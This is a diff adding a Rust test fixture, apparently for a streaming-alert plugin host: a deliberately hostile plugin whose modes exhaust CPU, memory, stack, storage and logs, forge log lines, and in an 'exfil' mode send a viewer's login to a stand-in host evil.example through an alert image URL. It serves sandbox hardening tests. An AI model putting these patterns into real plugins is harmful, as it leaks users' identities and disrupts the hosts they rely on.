@@ -1,0 +1,213 @@
+//! A plugin written by an attacker, asking for no permission. Each attack
+//! is one mode: `test.hostile` events carry it in `details.mode` (on-event
+//! attacks); `init`, `format` and `render` attacks are chosen in its
+//! settings, since those calls get no event of the attacker's choosing.
+//! `tests/hostile.rs` runs every mode against a real host and checks that a
+//! bystander's alert still arrives and that this plugin is stopped with a
+//! reason.
+
+use std::cell::RefCell;
+
+use stagehand_plugin_sdk::prelude::*;
+
+thread_local! {
+    static SETTINGS: RefCell<stagehand_plugin_sdk::serde_json::Value> =
+        RefCell::new(stagehand_plugin_sdk::serde_json::Value::Null);
+}
+
+fn setting(key: &str) -> String {
+    SETTINGS.with(|s| s.borrow()[key].as_str().unwrap_or_default().to_owned())
+}
+
+pub struct HostilePlugin;
+
+/// Sleeps through WASI: `std::thread::sleep` is a `poll` on a clock.
+fn sleep_long() {
+    std::thread::sleep(std::time::Duration::from_secs(60));
+}
+
+/// Waits on a clock pollable directly, without std.
+#[cfg(target_arch = "wasm32")]
+fn poll_clock() {
+    let pollable = wasip2::clocks::monotonic_clock::subscribe_duration(60_000_000_000);
+    wasip2::io::poll::poll(&[&pollable]);
+}
+
+#[cfg(not(target_arch = "wasm32"))]
+fn poll_clock() {
+    sleep_long();
+}
+
+/// Blocks on a clock pollable's own `block`.
+#[cfg(target_arch = "wasm32")]
+fn block_clock() {
+    wasip2::clocks::monotonic_clock::subscribe_duration(60_000_000_000).block();
+}
+
+#[cfg(not(target_arch = "wasm32"))]
+fn block_clock() {
+    sleep_long();
+}
+
+fn spin() -> ! {
+    let mut x: u64 = 0;
+    loop {
+        x = std::hint::black_box(x.wrapping_add(1));
+    }
+}
+
+/// Recurses until the stack runs out (the host cuts it off at 512 KiB).
+#[inline(never)]
+fn recurse(depth: u64) -> u64 {
+    let pad = std::hint::black_box([depth; 32]);
+    if std::hint::black_box(depth) == u64::MAX {
+        return pad[0];
+    }
+    recurse(depth + 1) + pad[0]
+}
+
+fn big(bytes: usize) -> String {
+    "A".repeat(bytes)
+}
+
+impl Plugin for HostilePlugin {
+    fn describe() -> Info {
+        Info::new("hostile-plugin", env!("CARGO_PKG_VERSION"))
+            .kinds(["*"])
+            .roles([Role::Actions, Role::Formatter, Role::Renderer])
+    }
+
+    fn init(settings: String) -> Result<(), String> {
+        let parsed = stagehand_plugin_sdk::serde_json::from_str(&settings).unwrap_or_default();
+        SETTINGS.with(|s| *s.borrow_mut() = parsed);
+        match setting("init").as_str() {
+            "spin" => spin(),
+            "sleep" => {
+                sleep_long();
+                Ok(())
+            }
+            "fail-long" => Err(big(1 << 20)),
+            _ => Ok(()),
+        }
+    }
+
+    fn format(event: Event) -> Option<Display> {
+        match setting("format").as_str() {
+            "spin" => spin(),
+            "sleep" => sleep_long(),
+            "flood" => {
+                return Some(Display::new("x", "x", "#000", big(1 << 20)));
+            }
+            _ => {}
+        }
+        (event.kind == "test.hostile").then(|| Display::new("Hostile", "☠", "#000", "hostile"))
+    }
+
+    fn on_event(event: Event) -> Result<Vec<Action>, String> {
+        if event.kind != "test.hostile" {
+            return Ok(Vec::new());
+        }
+        match event.detail("mode").unwrap_or_default().as_str() {
+            "sleep" => sleep_long(),
+            "poll" => poll_clock(),
+            "block" => block_clock(),
+            "spin" => spin(),
+            "slow" => {
+                // Busy for 40 ms: within the deadline, but slow.
+                let start = host::now_ms();
+                while host::now_ms() < start + 40 {
+                    std::hint::black_box(start);
+                }
+            }
+            "recurse" => {
+                std::hint::black_box(recurse(0));
+            }
+            "memory" => {
+                // 640 MiB at once (reserved: the cap is hit when memory
+                // grows, before a byte is touched).
+                let hog: Vec<u8> = Vec::with_capacity(640 << 20);
+                std::hint::black_box(&hog);
+            }
+            "kv-flood" => {
+                // 4 MiB more per event, in 60 KiB values: a few events
+                // reach the 16 MiB a plugin may keep.
+                let round = host::kv_get_u64("round");
+                let value = big(60 << 10);
+                for i in 0..68 {
+                    host::kv_set(&format!("junk-{round}-{i}"), &value);
+                }
+                host::kv_set("round", &(round + 1).to_string());
+            }
+            "kv-keys" => {
+                for i in 0..20_000 {
+                    host::kv_set(&format!("k{i}"), "");
+                }
+            }
+            "alert-flood" => {
+                return Ok((0..5000)
+                    .map(|i| Action::ShowAlert(Alert::new("flood", format!("{i}"))))
+                    .collect());
+            }
+            "log-flood" => {
+                for i in 0..100_000 {
+                    host::log(
+                        Level::Error,
+                        &format!("flood line {i}\nforged: ERROR host compromised"),
+                    );
+                }
+            }
+            "stderr-flood" => {
+                for i in 0..200_000 {
+                    eprintln!("stderr flood {i}");
+                }
+            }
+            "error-flood" => return Err(big(1 << 20)),
+            "exfil" => {
+                let mut alert = Alert::new("hi", "hi");
+                alert.image_url = Some(format!(
+                    "https://evil.example/pixel.png?viewer={}",
+                    event.viewer.map(|v| v.login).unwrap_or_default()
+                ));
+                return Ok(vec![Action::ShowAlert(alert)]);
+            }
+            "huge-alert" => return Ok(vec![Action::ShowAlert(Alert::new("x", big(1 << 20)))]),
+            _ => {}
+        }
+        Ok(Vec::new())
+    }
+
+    fn render(mut alert: Alert) -> Option<Alert> {
+        match setting("render").as_str() {
+            "spin" => spin(),
+            "sleep" => {
+                sleep_long();
+                None
+            }
+            "exfil" => {
+                alert.image_url = Some("https://evil.example/pixel.png".into());
+                Some(alert)
+            }
+            _ => None,
+        }
+    }
+}
+
+stagehand_plugin_sdk::export!(HostilePlugin);
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use stagehand_plugin_sdk::serde_json::json;
+    use stagehand_plugin_sdk::testing;
+
+    #[test]
+    fn it_behaves_when_no_attack_is_chosen() {
+        testing::reset();
+        HostilePlugin::init("{}".into()).unwrap();
+        let e = testing::event("channel.follow", json!({"username": "a"}));
+        assert!(HostilePlugin::format(e.clone()).is_none());
+        assert!(HostilePlugin::on_event(e).unwrap().is_empty());
+        let flood = testing::event("test.hostile", json!({"mode": "alert-flood"}));
+        assert_eq!(HostilePlugin::on_event(flood).unwrap().len(), 5000);
+    }
+}
